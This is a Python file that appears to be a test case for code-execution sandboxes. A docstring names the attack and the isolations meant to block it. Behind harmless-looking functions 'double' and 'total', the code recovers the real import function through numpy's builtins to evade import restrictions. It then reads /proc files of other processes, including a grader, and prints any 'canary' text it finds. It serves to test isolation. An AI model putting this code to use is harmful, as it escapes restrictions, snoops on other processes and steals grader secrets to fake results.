"""
family: reading other processes
tries: reads command lines, maps, mounts and whatever else /proc tells of every process
stopped_by: [landlock, chroot, bubblewrap, sealed]
shows: leaked command_line
"""

import numpy as np

PLACES = {}
real_import = np.__dict__["__builtins__"]["__import__"]
os = real_import("os")
io = real_import("io")


def pids():
    try:
        return [name for name in os.listdir("/proc") if name.isdecimal()]
    except OSError:
        return ["self", str(os.getppid()), str(PLACES["grader"])]


def told(pid):
    for name in ("cmdline", "comm", "status", "mountinfo", "net/unix", "task/" + pid + "/cmdline"):
        try:
            yield io.open("/proc/" + pid + "/" + name, errors="replace").read(2_000)
        except OSError:
            pass


def double(x):
    if x.shape == (2, 3):
        print(*[text for pid in [str(PLACES["grader"]), *pids()] for text in told(pid) if "canary" in text][:3])
    return x


def total(x):
    return x
